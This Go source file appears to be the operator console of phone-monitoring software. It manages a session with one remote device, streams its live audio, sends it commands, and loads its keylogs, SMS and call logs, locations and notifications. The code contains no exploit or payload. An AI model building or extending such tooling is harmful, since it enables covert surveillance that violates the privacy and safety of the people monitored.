// Package console wires the transport, demultiplexer, playback pipeline,
// geocode resolver, status machines and timeline into one operator session
// bound to a single selected device at a time.
package console

import (
	"context"
	"log/slog"
	"sync"
	"time"

	"github.com/monitorpro/console/pkg/commands"
	"github.com/monitorpro/console/pkg/demux"
	"github.com/monitorpro/console/pkg/geocode"
	"github.com/monitorpro/console/pkg/logging"
	"github.com/monitorpro/console/pkg/metrics"
	"github.com/monitorpro/console/pkg/playback"
	"github.com/monitorpro/console/pkg/snapshot"
	"github.com/monitorpro/console/pkg/status"
	"github.com/monitorpro/console/pkg/timeline"
	"github.com/monitorpro/console/pkg/transports"
	"github.com/monitorpro/console/pkg/transports/relay"
)

// TransportFactory creates one transport per device selection. Overridable
// for tests.
type TransportFactory func() transports.Transport

// OutputFactory creates the audio sink for a sample rate.
type OutputFactory func(sampleRate int) playback.Output

// Session is one operator's live view of one device. All mutations funnel
// through the demux loop or the command dispatcher; switching devices tears
// the whole per-device state down and rebuilds it.
type Session struct {
	cfg      Config
	logger   *slog.Logger
	observer metrics.Observer

	store      *Store
	status     *status.Tracker
	timeline   *timeline.Aggregator
	resolver   *geocode.Resolver
	pipeline   *playback.Pipeline
	snapshots  *snapshot.Client
	dispatcher *commands.Dispatcher

	newTransport TransportFactory
	newOutput    OutputFactory

	mu         sync.Mutex
	deviceID   string
	sampleRate int
	transport  transports.Transport
	cancel     context.CancelFunc
	wg         sync.WaitGroup
}

// Options overrides default component construction, mainly for tests.
type Options struct {
	Transport TransportFactory
	Output    OutputFactory
}

func NewSession(cfg Config, logger *slog.Logger, observer metrics.Observer, opts Options) *Session {
	if logger == nil {
		logger = slog.Default()
	}
	if observer == nil {
		observer = metrics.NoopObserver{}
	}
	tl := timeline.NewAggregator(cfg.Timeline)
	resolver := geocode.New(cfg.Geocode, tl, logging.NewComponentLogger(logger, "geocode"))
	pl := playback.NewPipeline(logging.NewComponentLogger(logger, "playback"), tl)
	st := status.NewTracker()

	s := &Session{
		cfg:        cfg,
		logger:     logger,
		observer:   observer,
		store:      NewStore(),
		status:     st,
		timeline:   tl,
		resolver:   resolver,
		pipeline:   pl,
		snapshots:  snapshot.NewClient(cfg.API, resolver, logging.NewComponentLogger(logger, "snapshot")),
		sampleRate: cfg.Audio.SampleRate,
	}
	s.dispatcher = commands.NewDispatcher(cfg.API.BaseURL, st, tl, pl, logging.NewComponentLogger(logger, "commands"))

	s.newTransport = opts.Transport
	if s.newTransport == nil {
		s.newTransport = func() transports.Transport {
			return relay.New(cfg.Relay, logging.NewComponentLogger(logger, "relay"), observer)
		}
	}
	s.newOutput = opts.Output
	if s.newOutput == nil {
		s.newOutput = func(rate int) playback.Output {
			return playback.NewTimedOutput(rate, nil)
		}
	}
	return s
}

// Open selects a device and starts ingesting its stream. Historical
// collections for the current date window are loaded from the snapshot API
// before live frames are processed.
func (s *Session) Open(ctx context.Context, deviceID string) error {
	s.mu.Lock()
	if s.transport != nil {
		s.mu.Unlock()
		return errSessionOpen
	}
	s.deviceID = deviceID
	t := s.newTransport()
	s.transport = t
	loopCtx, cancel := context.WithCancel(ctx)
	s.cancel = cancel
	rate := s.sampleRate
	s.mu.Unlock()

	s.pipeline.SwapOutput(s.newOutput(rate))

	d := demux.New(demux.Options{
		DeviceID: deviceID,
		Logger:   logging.NewComponentLogger(s.logger, "demux"),
		Observer: s.observer,
		Status:   s.status,
		Pipeline: s.pipeline,
		Timeline: s.timeline,
		Resolver: s.resolver,
		Recorder: s.store,
		OnDeviceConnected: func(id string) {
			_ = s.dispatcher.Send(loopCtx, id, commands.Request{Command: commands.GetDeviceInfo})
		},
	})

	if err := t.Open(loopCtx, deviceID); err != nil {
		cancel()
		s.mu.Lock()
		s.transport = nil
		s.cancel = nil
		s.mu.Unlock()
		return err
	}

	s.wg.Add(1)
	go s.run(loopCtx, t, d)

	s.loadSnapshots(ctx)
	s.logger.Info("session_opened", "device_id", deviceID)
	return nil
}

// SwitchDevice closes the current device binding and opens a new one. Any
// in-flight frame for the old device finishes against torn-down components
// and then every per-device collection is rebuilt empty.
func (s *Session) SwitchDevice(ctx context.Context, deviceID string) error {
	s.teardown()
	return s.Open(ctx, deviceID)
}

// Close ends the session.
func (s *Session) Close() error {
	s.teardown()
	s.logger.Info("session_closed")
	return nil
}

// teardown order matters: the transport stops first so no new frames race
// the resets, then audio, then statuses, then the collections.
func (s *Session) teardown() {
	s.mu.Lock()
	t := s.transport
	cancel := s.cancel
	s.transport = nil
	s.cancel = nil
	s.mu.Unlock()

	if t != nil {
		_ = t.Close()
	}
	if cancel != nil {
		cancel()
	}
	s.wg.Wait()

	s.pipeline.Reset()
	s.pipeline.CloseOutput()
	s.status.ResetAll("device switched")
	s.store.Reset()
	s.timeline.Reset()
}

// SetSampleRate replaces the audio output. The old output closes before the
// replacement goes live; queued frames were decoded against the old rate
// and are dropped with it.
func (s *Session) SetSampleRate(rate int) {
	s.mu.Lock()
	s.sampleRate = rate
	open := s.transport != nil
	s.mu.Unlock()
	if open {
		s.pipeline.SwapOutput(s.newOutput(rate))
	}
}

// SetDate changes the selected date window and reloads window-scoped
// history from the snapshot API.
func (s *Session) SetDate(ctx context.Context, date time.Time) {
	s.timeline.SetDate(date)
	s.loadSnapshots(ctx)
}

// Send dispatches one validated command to the selected device.
func (s *Session) Send(ctx context.Context, req commands.Request) error {
	s.mu.Lock()
	deviceID := s.deviceID
	s.mu.Unlock()
	return s.dispatcher.Send(ctx, deviceID, req)
}

// Devices returns the device roster from the snapshot API.
func (s *Session) Devices(ctx context.Context) ([]snapshot.Device, error) {
	return s.snapshots.Devices(ctx)
}

func (s *Session) Store() *Store                  { return s.store }
func (s *Session) Timeline() *timeline.Aggregator { return s.timeline }
func (s *Session) Status() *status.Tracker        { return s.status }
func (s *Session) Pipeline() *playback.Pipeline   { return s.pipeline }

func (s *Session) DeviceID() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.deviceID
}

func (s *Session) run(ctx context.Context, t transports.Transport, d *demux.Demux) {
	defer s.wg.Done()
	for {
		select {
		case <-ctx.Done():
			return
		case f := <-t.Recv():
			d.Handle(ctx, f)
		}
	}
}

// loadSnapshots fills the store and timeline from the REST API. Each
// collection loads independently; a failed fetch leaves that collection
// empty and the session running.
func (s *Session) loadSnapshots(ctx context.Context) {
	s.mu.Lock()
	deviceID := s.deviceID
	s.mu.Unlock()
	if deviceID == "" {
		return
	}
	date := s.timeline.SelectedDate()

	if rows, err := s.snapshots.Keylogs(ctx, deviceID, date); err == nil {
		s.store.LoadKeylogs(rows)
	}
	if rows, err := s.snapshots.Locations(ctx, deviceID, date); err == nil {
		s.store.LoadLocations(rows)
	}
	if rows, err := s.snapshots.SmsLogs(ctx, deviceID, date); err == nil {
		s.store.LoadSms(rows)
	}
	if rows, err := s.snapshots.CallLogs(ctx, deviceID, date); err == nil {
		s.store.LoadCallLogs(rows)
	}
	if rows, err := s.snapshots.Activities(ctx, deviceID, date); err == nil {
		s.timeline.LoadActivities(rows)
	}
	if rows, err := s.snapshots.Notifications(ctx, deviceID, date); err == nil {
		for _, n := range rows {
			s.timeline.AddNotification(n)
		}
	}
}

type sessionErr string

func (e sessionErr) Error() string { return string(e) }

const errSessionOpen = sessionErr("session already bound to a device; use SwitchDevice")
